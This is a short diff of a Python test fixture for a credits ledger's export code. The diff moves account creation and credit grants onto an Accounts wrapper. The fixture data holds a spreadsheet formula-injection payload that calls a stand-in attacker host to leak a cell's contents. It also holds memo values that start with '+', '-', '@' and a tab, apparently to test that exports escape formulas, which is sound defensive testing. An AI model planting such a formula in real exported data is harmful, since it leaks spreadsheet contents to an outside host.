@@ -21,6 +21,7 @@ from adapters.exports.formats import JsonlFormat, link, unescaped
 from adapters.presenters import balance_json
 from adapters.services import Services
 from adapters.settings import Settings
+from application.accounts import Accounts
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"refund")'
 BIG = 2**70
@@ -31,11 +32,11 @@ def services(tmp_path: Path) -> Iterator[Services]:
     settings = Settings(data_dir=tmp_path / "data")
     initialise(settings)
     built = build_services(settings)
-    built.ledger.create_account("acme")
-    built.ledger.create_account("@globex")
-    built.ledger.grant_credits("acme", 5 * 10**9, FORMULA, "+key")
-    built.ledger.grant_credits("@globex", 10**9, "-2 for the trouble", "k2")
-    built.ledger.adjust_credits("acme", -(10**9 // 2), "\tcorrection", "k3")
+    Accounts(built.ledger).create_account("acme")
+    Accounts(built.ledger).create_account("@globex")
+    Accounts(built.ledger).grant_credits("acme", 5 * 10**9, FORMULA, "+key")
+    Accounts(built.ledger).grant_credits("@globex", 10**9, "-2 for the trouble", "k2")
+    Accounts(built.ledger).adjust_credits("acme", -(10**9 // 2), "\tcorrection", "k3")
     yield built
     built.close()
 
